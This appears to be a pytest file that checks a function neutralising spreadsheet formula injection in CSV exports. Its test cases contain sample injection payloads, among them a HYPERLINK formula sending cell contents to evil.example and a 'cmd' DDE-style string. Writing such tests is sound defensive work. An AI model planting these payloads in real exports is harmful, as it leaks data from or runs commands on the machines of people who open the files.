"""No cell of an export begins as a formula does."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wangtimer.base.spreadsheet_cells import defused


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
        ("+1+1", "'+1+1"),
        ("-2+3|cmd!A1", "'-2+3|cmd!A1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("\n=1", "'\n'=1"),
        ("＝1+1", "'＝1+1"),
        # A cell of its own where the list separator is a semicolon.
        ("ok;=1+1", "ok;'=1+1"),
        ("line\n@SUM(1)", "line\n'@SUM(1)"),
    ],
)
def test_a_formula_becomes_a_text(cell: str, shown: str) -> None:
    assert defused({"output": cell}) == {"output": shown}


@pytest.mark.parametrize(
    "cell", [-5, 0.5, None, True, "", "-5", "+31", "-0.5", "ok", "a=b", "a-b", "{}", "2026-12-01T10:00Z"]
)
def test_numbers_and_all_else_stay(cell: object) -> None:
    assert defused({"output": cell}) == {"output": cell}


@given(st.lists(st.text(alphabet="=+-@\t\r\n;,\"'a1＝＠"), min_size=1))
def test_read_with_either_separator_no_cell_computes_anything(cells: list[str]) -> None:
    held = io.StringIO()
    csv.writer(held, lineterminator="\r\n").writerow(defused(dict(enumerate(cells))).values())  # type: ignore[arg-type]
    (row,) = csv.reader(io.StringIO(held.getvalue(), newline=""))
    split = [part for cell in row for part in re.split(r"[;\t\r\n]", cell)]
    computing = [one for one in split if re.match(r"[=+\-@＝＋－＠]", one)]
    assert all(re.fullmatch(r"[+-]\d+", one) for one in computing)
